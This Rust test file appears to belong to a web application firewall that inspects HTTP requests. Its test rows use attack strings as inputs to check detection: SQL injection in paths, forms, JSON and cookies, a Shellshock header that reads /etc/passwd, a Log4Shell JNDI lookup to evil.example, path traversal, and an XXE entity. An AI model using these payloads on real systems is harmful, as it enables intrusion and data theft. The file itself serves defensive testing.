use super::*;
use crate::decide::{Outcome, Verdict};
use crate::decode::Field;
use crate::detector::{Detector, Evidence, Needs, Report, Rule};
use crate::finding::{Confidence, RuleId};
use crate::prefilter::Prefilter;

mod passed;

fn mk_head<'a>(target: &'a str, content_type: Option<&'a str>) -> Head<'a> {
    Head {
        method: "POST",
        target: target.as_bytes(),
        content_type: content_type.map(str::as_bytes),
        content_encoding: None,
        fields: &(),
    }
}

fn mk_ruleset() -> Ruleset {
    Ruleset::build(&Effective::builtin_blocking()).unwrap()
}

fn inspected(ruleset: &Ruleset, head: &Head<'_>, body: Body<'_>) -> Inspection {
    let mut inspection = ruleset.inspect_head(head);
    ruleset.inspect_body(head, body, &mut inspection);
    inspection
}

#[test]
fn refuses_a_policy_that_cannot_be_in_force_and_names_the_field() {
    let mut effective = Effective::builtin();
    effective.response_status = 200;
    let error = Ruleset::build(&effective).unwrap_err().to_string();
    assert_eq!(error, "response.status is 200: use a status from 400 to 599");
    let mut effective = Effective::builtin();
    effective.max_body_bytes = 0;
    let error = Ruleset::build(&effective).unwrap_err().to_string();
    assert_eq!(error, "inspection.maxBodyBytes is 0: use 1 to 16777216");
}

#[test]
fn before_any_policy_closed_refuses_and_open_passes() {
    for (failure_mode, refused) in [(FailureMode::Closed, Some(503)), (FailureMode::Open, None)] {
        let ruleset = Ruleset::bootstrapping(failure_mode);
        let head = mk_head("/?q=1", None);
        assert_eq!(ruleset.body_plan(&head), BodyPlan::Skip);
        let inspection = inspected(&ruleset, &head, Body::Complete(b"a=b"));
        assert_eq!(inspection.coverage(), Coverage::Partial(Reason::NoPolicy));
        let judgement = ruleset.decide(inspection);
        assert_eq!(judgement.verdict, decide::Verdict::Error);
        let status = match judgement.outcome {
            decide::Outcome::Forward(_) => None,
            decide::Outcome::Refuse(refusal) => Some(refusal.status),
        };
        assert_eq!(status, refused);
    }
}

#[test]
fn is_off_only_where_every_mode_is() {
    let rows = [
        (Mode::Off, Mode::Off, true, false),
        (Mode::Monitor, Mode::Off, false, false),
        (Mode::Off, Mode::Monitor, false, false),
        (Mode::Off, Mode::Block, false, true),
        (Mode::Block, Mode::Off, false, true),
    ];
    for (mode, class, off, enforces) in rows {
        let mut effective = Effective::builtin();
        effective = effective.in_mode(class);
        effective.mode = mode;
        let ruleset = Ruleset::build(&effective).unwrap();
        assert_eq!((ruleset.is_off(), ruleset.enforces()), (off, enforces), "{mode:?} {class:?}");
        assert_eq!(ruleset.effective(), &effective);
    }
}

#[test]
fn plans_a_window_for_types_with_a_decoder() {
    let ruleset = mk_ruleset();
    let plan = |content_type| ruleset.body_plan(&mk_head("/", content_type));
    assert_eq!(plan(Some("application/json")), BodyPlan::Window(131_072));
    assert_eq!(plan(None), BodyPlan::Window(131_072));
    assert_eq!(plan(Some("multipart/form-data")), BodyPlan::Window(131_072));
    assert_eq!(plan(Some("application/grpc-web")), BodyPlan::Window(131_072));
    assert_eq!(plan(Some("application/grpc")), BodyPlan::Messages(131_072), "a stream that both sides write");
    let mut effective = Effective::builtin_blocking();
    effective = effective.in_mode(Mode::Off);
    let off = Ruleset::build(&effective).unwrap();
    assert_eq!(off.body_plan(&mk_head("/", None)), BodyPlan::Skip);
}

#[test]
fn says_why_a_body_was_not_inspected() {
    let ruleset = mk_ruleset();
    let coverage = |content_type, body| inspected(&ruleset, &mk_head("/", content_type), body).coverage();
    assert_eq!(coverage(Some("image/png"), Body::Opaque), Coverage::Partial(Reason::OpaqueBody));
    assert_eq!(
        coverage(Some("multipart/form-data"), Body::Opaque),
        Coverage::Partial(Reason::UnsupportedBody)
    );
    assert_eq!(coverage(Some("application/json"), Body::Opaque), Coverage::Partial(Reason::OpaqueBody));
    assert_eq!(coverage(Some("image/png"), Body::Empty), Coverage::Full);
    assert_eq!(coverage(Some("application/json"), Body::Complete(b"{}")), Coverage::Full);
    assert_eq!(
        coverage(Some("application/json"), Body::Complete(b"{")),
        Coverage::Partial(Reason::MalformedBody)
    );
    assert_eq!(
        coverage(Some("application/json"), Body::Truncated(b"{")),
        Coverage::Partial(Reason::BodyTooLarge)
    );
    let head = Head { content_encoding: Some(b"gzip"), ..mk_head("/", Some("application/json")) };
    assert_eq!(inspected(&ruleset, &head, Body::Opaque).coverage(), Coverage::Partial(Reason::EncodedBody));
}

#[test]
fn keeps_the_most_serious_reason() {
    let mut inspection = Inspection::failed(Reason::OpaqueBody);
    inspection.note(Reason::NoPolicy);
    inspection.note(Reason::MalformedBody);
    assert_eq!(inspection.coverage(), Coverage::Partial(Reason::NoPolicy));
}

#[test]
fn finds_an_attack_in_every_part_of_a_request() {
    let ruleset = mk_ruleset();
    let form = Some("application/x-www-form-urlencoded");
    let json = Some("application/json");
    let rows: &[(&str, Option<&str>, &str, &str, &str)] = &[
        ("/item/1'%20or%201=1--", None, "", "path", ""),
        ("/item/1/**/or/**/1=1", None, "", "path", ""),
        ("/?id=1'+or+1=1--", None, "", "query", "id"),
        ("/?1'+or+1=1--", None, "", "query_name", ""),
        ("/?id'or'1'%3D'1=x", None, "", "query_name", ""),
        ("/?a=b;id=1%20or%201=1", None, "", "query", "id"),
        ("/", form, "id=1'+or+1%3D1--", "form", "id"),
        ("/", form, "id'+or+1%3D1--=x", "form_name", ""),
        ("/", json, r#"{"user":{"name":"x' or 1=1--"}}"#, "json", "name"),
        ("/", json, r#"{"ids":["1","x' or 1=1--"]}"#, "json", "ids"),
        ("/", json, r#"{"x' or 1=1--":1}"#, "json_key", ""),
        ("/", json, r#"{"a":"fine","a":"x' or 1=1--"}"#, "json", "a"),
        ("/", json, r#"{"a":"x\u0027 or 1=1--"}"#, "json", "a"),
        ("/", json, r#"{"a":"{\"b\":\"x' or 1=1--\"}"}"#, "json", "b"),
        ("/", json, r#"{a:"x\u0027 or 1=1--""#, "json", ""),
        ("/", None, "id=1'+or+1%3D1--", "form", "id"),
        ("/", Some("text/plain"), "x' or 1=1--", "text", ""),
        ("/", form, r#"{"a":"x' or 1=1--"}"#, "json", "a"),
        ("/?q=%7B%22a%22:%22x'%20or%201=1--%22%7D", None, "", "json", "a"),
    ];
    for (target, content_type, body, part, name) in rows {
        let inspection =
            inspected(&ruleset, &mk_head(target, *content_type), Body::Complete(body.as_bytes()));
        let found: Vec<_> = inspection
            .findings()
            .iter()
            .filter(|finding| finding.confidence >= rasp_policy::api::Confidence::High)
            .map(|finding| (finding.location.part.as_str(), finding.location.name.as_str()))
            .collect();
        assert!(found.contains(&(part, name)), "{target} {body}: {found:?}");
    }
}

#[test]
fn a_message_over_its_budget_is_not_called_inspected() {
    let mut ruleset = mk_ruleset();
    ruleset.limits.parts = 10;
    let head = mk_head("/", Some("application/x-www-form-urlencoded"));
    let inspection = inspected(&ruleset, &head, Body::Complete("a&".repeat(20).as_bytes()));
    assert_eq!(inspection.coverage(), Coverage::Partial(Reason::TooManyParts));
}

#[test]
fn padding_within_the_window_hides_nothing() {
    let ruleset = mk_ruleset();
    let head = mk_head("/", Some("application/x-www-form-urlencoded"));
    let nested = format!("x=1 or {}&", "(".repeat(1_000));
    let pieces = [
        "a&",
        "a;",
        "'=;",
        "x=' or '",
        "a=%252527&",
        "a=%25252527+b&",
        "a=%26%2338;%5Cx25&",
        "a=1/**/or/**/",
        "a={\"b\":[&",
        &nested,
    ];
    for piece in pieces {
        let mut body = piece.repeat(120_000 / piece.len());
        body.push_str("&id=1' or 1=1--");
        let inspection = inspected(&ruleset, &head, Body::Complete(body.as_bytes()));
        assert!(inspection.findings().iter().any(|found| found.location.name == "id"), "{piece}");
    }
}

#[test]
fn evidence_of_one_message_is_bounded_and_the_surest_is_kept() {
    let ruleset = mk_ruleset();
    let head = mk_head("/", Some("application/x-www-form-urlencoded"));
    let body = format!("{}b=1' or 1=1--", "a=1 or 1--&".repeat(1_000));
    let inspection = inspected(&ruleset, &head, Body::Complete(body.as_bytes()));
    assert_eq!(inspection.findings().len(), 32);
    assert!(inspection.findings().iter().any(|found| found.location.name == "b"));
}

#[test]
fn an_attack_in_utf_16_is_found() {
    let body = r#"{"a":"x' or 1=1--"}"#.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
    let ruleset = mk_ruleset();
    let inspection = inspected(&ruleset, &mk_head("/", Some("application/json")), Body::Complete(&body));
    assert_eq!(inspection.coverage(), Coverage::Full);
    assert_eq!(ruleset.decide(inspection).verdict, decide::Verdict::Block);
}

#[test]
fn a_made_up_type_or_encoding_hides_nothing_and_uploads_pass() {
    let ruleset = mk_ruleset();
    let attacks = [r#"{"a":"x' or 1=1--"}"#, "id=1'+or+1%3D1--"];
    let heads = [
        ("foo", None),
        ("text/html", None),
        ("application/octet-stream", None),
        ("application/json", Some("x")),
    ];
    for (content_type, encoding) in heads {
        let encoding: Option<&str> = encoding;
        let head = Head { content_encoding: encoding.map(str::as_bytes), ..mk_head("/", Some(content_type)) };
        assert_eq!(ruleset.body_plan(&head), BodyPlan::Window(131_072));
        for attack in attacks {
            let judged = ruleset.decide(inspected(&ruleset, &head, Body::Complete(attack.as_bytes())));
            assert_eq!(judged.verdict, decide::Verdict::Block, "{content_type} {attack}");
        }
        let reason = if encoding.is_some() { Reason::EncodedBody } else { Reason::OpaqueBody };
        for body in [
            Body::Complete(b"\x1f\x8b\x08\x00' or 1=1--\xff\x01"),
            Body::Truncated(b"{\"a\":\"b"),
            Body::Truncated(b""),
        ] {
            let inspection = inspected(&ruleset, &head, body);
            assert_eq!(inspection.coverage(), Coverage::Partial(reason), "{head:?} {body:?}");
            assert_eq!(ruleset.decide(inspection).verdict, decide::Verdict::Allow, "{head:?} {body:?}");
        }
    }
}

#[test]
fn a_body_that_is_two_things_at_once_hides_nothing() {
    let ruleset = mk_ruleset();
    let form = Some("application/x-www-form-urlencoded");
    let text = Some("text/plain");
    let rows: &[(Option<&str>, &[u8])] = &[
        (text, br#"{"a":NaN,"q":"1\u0027 OR \u00271\u0027=\u00271"}"#),
        (None, br#"{"a":NaN,"q":"1\u0027 OR \u00271\u0027=\u00271"}"#),
        (text, b"\xEF\xBB\xBF{\"q\":\"1\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
        (form, b"[\"&q=1'+OR+'1'='1&\"]"),
        (form, b"{\"&q=1'+OR+'1'='1&"),
        (text, b"1' OR '1'='1 \0"),
    ];
    for (content_type, body) in rows {
        let judged = ruleset.decide(inspected(&ruleset, &mk_head("/", *content_type), Body::Complete(body)));
        assert_eq!(judged.verdict, decide::Verdict::Block, "{content_type:?} {}", body.escape_ascii());
    }
    let script = b"'use strict';\nselect = 1; if (1 or 1=1) {}";
    let judged =
        ruleset.decide(inspected(&ruleset, &mk_head("/", Some("text/javascript")), Body::Complete(script)));
    assert_eq!(judged.verdict, decide::Verdict::Allow);
}

#[test]
fn an_attack_in_a_field_of_the_head_is_found_where_it_is() {
    let ruleset = mk_ruleset();
    let rows = [
        ("user-agent", "() { :; }; /bin/cat /etc/passwd", "header", "user-agent"),
        ("x-api-version", "${jndi:ldap://evil.example/a}", "header", "x-api-version"),
        ("referer", "https://example.org/?q=1%27+or+%271%27=%271", "header", "referer"),
        ("authorization", "Basic YWRtaW4nIG9yICcxJz0nMTpzZWNyZXQ=", "header", "authorization"),
        ("cookie", "theme=dark; id=1'%20or%20'1'='1", "cookie", "id"),
        ("cookie", "a=%7B%22b%22%3A%22x%27%20or%201%3D1--%22%7D", "json", "b"),
    ];
    for (name, value, part, location) in rows {
        let fields = [(name, value)];
        let head = Head { fields: &fields.as_slice(), ..mk_head("/", None) };
        let judgement = ruleset.decide(ruleset.inspect_head(&head));
        assert_eq!(judgement.verdict, decide::Verdict::Block, "{name}: {value}");
        let found = &judgement.findings[0].location;
        assert_eq!((found.part.as_str(), &*found.name), (part, location), "{name}: {value}");
    }
}

/// A detector of the test, run on values with an asterisk.
fn broken(class: Class, inspect: fn(&Field<'_>, &mut Report<'_>) -> Result<(), Reason>) -> Detector {
    Detector { class, needs: Needs { alone: b"*", bytes: b"", needles: &[] }, inspect, rules: Vec::new }
}

fn sees(field: &Field<'_>, report: &mut Report<'_>) -> Result<(), Reason> {
    let rule = Rule { id: RuleId("for-the-test"), reason: "the value has an asterisk" };
    report.budget().work(1)?;
    let sample = String::new();
    report.find(field, Evidence { rule, confidence: Confidence::High, at: 0..1, sample });
    Ok(())
}

/// A Ruleset with three detectors, of which the second one panics.
fn with_a_broken_detector(mode_of_the_broken: Mode) -> Ruleset {
    let mut effective = Effective { failure_mode: FailureMode::Closed, ..Effective::builtin_blocking() };
    effective.set_detection(Class::CrossSiteScripting, |class| class.mode = mode_of_the_broken);
    let mut ruleset = Ruleset::build(&effective).unwrap();
    let detectors = [
        broken(Class::SqlInjection, |_, _| Ok(())),
        broken(Class::CrossSiteScripting, |_, _| panic!("a bug")),
        broken(Class::NoSqlInjection, sees),
    ];
    let detectors = detectors.map(|detector| &*Box::leak(Box::new(detector)));
    let prefilter = Prefilter::build(detectors.iter().map(|detector| detector.needs));
    ruleset.detection = Some(Detection {
        heads: false,
        uploads: false,
        names: 0,
        detectors: Box::leak(Box::new(detectors)),
        prefilter: Box::leak(Box::new(prefilter)),
        enabled: 0b111,
        files: 0,
        documents: 0,
        exploits: None,
    });
    ruleset
}

#[test]
fn a_detector_that_panics_takes_neither_the_others_nor_the_rest_of_the_message_with_it() {
    let ruleset = with_a_broken_detector(Mode::Block);
    let mut inspection = ruleset.inspect_head(&mk_head("/?a=*&b=fine&c=*", None));
    let found: Vec<&str> = inspection.findings().iter().map(|finding| &*finding.location.name).collect();
    assert_eq!(found, ["a", "c"]);
    let run = inspection.take_run();
    let ran: Vec<Class> = run.ran.iter().collect();
    assert_eq!(ran, [Class::SqlInjection, Class::NoSqlInjection]);
    assert!(run.panicked.iter().eq([Class::CrossSiteScripting]));
    assert_eq!(run.costliest, Some((Class::NoSqlInjection, 1)));
    assert_eq!(inspection.take_run(), Run::default(), "told once");
    assert_eq!(inspection.coverage(), Coverage::Partial(Reason::InternalError));
}

#[test]
fn a_class_that_is_left_out_is_missed_only_where_it_had_to_look_and_only_in_block() {
    // Mode of the class, target, verdict, status of the refusal.
    let rows = [
        (Mode::Block, "/?a=fine", Verdict::Allow, None),
        (Mode::Block, "/*", Verdict::Error, Some(503)),
        (Mode::Monitor, "/*", Verdict::Error, None),
    ];
    for (mode, target, verdict, status) in rows {
        for left_out in [false, true] {
            let mut ruleset = with_a_broken_detector(mode);
            // The third one would find something.
            ruleset.detection.as_mut().unwrap().enabled = 0b011;
            let without = [Class::CrossSiteScripting].into_iter().filter(|_| left_out).collect();
            let inspection = ruleset.inspect_head_without(&mk_head(target, None), without);
            let judgement = ruleset.decide(inspection);
            let refused = match judgement.outcome {
                Outcome::Refuse(refusal) => Some(refusal.status),
                Outcome::Forward(_) => None,
            };
            assert_eq!((judgement.verdict, refused), (verdict, status), "{mode:?} {target} {left_out}");
        }
    }
}

/// Type, coding, body, and the part and the name of what is found.
type BodyRow<'a> = (Option<&'a str>, Option<&'a str>, &'a [u8], &'a str, &'a str);

#[test]
fn an_attack_in_a_body_of_any_kind_is_found_where_it_is() {
    use std::io::Write as _;
    let ruleset = mk_ruleset();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gzip.write_all(br#"{"a":"x' or 1=1--"}"#).unwrap();
    let gzip = gzip.finish().unwrap();
    let part = b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx' or 1=1--\r\n--b--\r\n";
    let file =
        b"--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"../../../etc/passwd\"\r\n\r\nx\r\n--b--\r\n";
    let xml = b"<?xml version='1.0'?><a><b>x' or 1=1--</b></a>";
    let entity = b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
    let message = b"\x0a\x0bx' or 1=1--";
    let framed = b"\0\0\0\0\x0d\x0a\x0bx' or 1=1--";
    let multipart = Some("multipart/form-data; boundary=b");
    let rows: &[BodyRow<'_>] = &[
        (Some("application/json"), Some("gzip"), &gzip, "json", "a"),
        (multipart, None, part, "form", "a"),
        (Some("multipart/form-data"), None, part, "form", "a"),
        (None, None, part, "form", "a"),
        (Some("application/json"), None, part, "form", "a"),
        (multipart, None, file, "file_name", "a"),
        (Some("text/xml"), None, xml, "xml", "b"),
        (Some("text/plain"), None, xml, "xml", "b"),
        (Some("application/octet-stream"), None, xml, "xml", "b"),
        (Some("application/xml"), None, entity, "document", ""),
        (Some("application/xml"), None, br#"{"a":"x' or 1=1--"}"#, "json", "a"),
        (Some("application/graphql"), None, br#"{ a(b: "x' or 1=1--") { c } }"#, "graphql", "b"),
        (Some("application/json"), None, br#"{"query":"{ a(b: \"x' or 1=1--\") { c } }"}"#, "graphql", "b"),
        (Some("application/x-ndjson"), None, b"{\"c\":1}\n{\"a\":\"x' or 1=1--\"}", "json", "a"),
        (Some("application/protobuf"), None, message, "protobuf", "1"),
        (Some("application/grpc-web"), None, framed, "protobuf", "1"),
        (Some("application/x-www-form-urlencoded"), None, b"a=x'/*&c=d&a=*/or/*&a=*/1=1--", "form", "a"),
    ];
    for (content_type, coding, body, part, name) in rows {
        let head = Head { content_encoding: coding.map(str::as_bytes), ..mk_head("/", *content_type) };
        let judgement = ruleset.decide(inspected(&ruleset, &head, Body::Complete(body)));
        let found = judgement
            .findings
            .iter()
            .filter(|finding| finding.confidence >= rasp_policy::api::Confidence::High);
        let places: Vec<_> =
            found.map(|finding| (finding.location.part.as_str(), finding.location.name.as_str())).collect();
        assert!(places.contains(&(part, name)), "{content_type:?} {}: {places:?}", body.escape_ascii());
    }
}

#[test]
fn what_is_in_a_file_is_no_value() {
    let ruleset = mk_ruleset();
    let body = b"--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"a.sql\"\r\n\r\nx' or 1=1--\r\n--b--\r\n";
    let head = mk_head("/", Some("multipart/form-data; boundary=b"));
    assert!(inspected(&ruleset, &head, Body::Complete(body)).findings().is_empty());
}

#[test]
fn bounds_of_decoding_are_those_of_the_policy() {
    use std::io::Write as _;
    type Row<'a> = (fn(&mut Effective), &'a str, Option<&'a str>, &'a [u8], Reason);
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gzip.write_all(format!("[\"{}\"]", "a ".repeat(100_000)).as_bytes()).unwrap();
    let gzip = gzip.finish().unwrap();
    let nested = format!("{}{}", "[".repeat(20), "]".repeat(20));
    let values = format!("[{}]", vec!["\"a\""; 200].join(","));
    let part = "--b\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n";
    let parts = format!("{}--b--", part.repeat(20));
    let multipart = "multipart/form-data; boundary=b";
    let json = "application/json";
    let rows: &[Row<'_>] = &[
        (|e| e.max_depth = 8, json, None, nested.as_bytes(), Reason::TooDeep),
        (|e| e.max_values = Some(100), json, None, values.as_bytes(), Reason::TooManyParts),
        (|e| e.max_multipart_parts = 5, multipart, None, parts.as_bytes(), Reason::TooManyParts),
        (|e| e.max_decompression_ratio = 2, json, Some("gzip"), &gzip, Reason::DecodedTooLarge),
        (|e| e.max_decompressed_bytes = Some(1024), json, Some("gzip"), &gzip, Reason::DecodedTooLarge),
    ];
    for (change, content_type, encoding, body, reason) in rows {
        let mut effective = Effective::builtin_blocking();
        effective.max_decompression_ratio = 1_000;
        let head = Head { content_encoding: encoding.map(str::as_bytes), ..mk_head("/", Some(content_type)) };
        let before = Ruleset::build(&effective).unwrap();
        assert_eq!(inspected(&before, &head, Body::Complete(body)).coverage(), Coverage::Full, "{reason:?}");
        change(&mut effective);
        let ruleset = Ruleset::build(&effective).unwrap();
        let coverage = inspected(&ruleset, &head, Body::Complete(body)).coverage();
        assert_eq!(coverage, Coverage::Partial(*reason));
    }
}
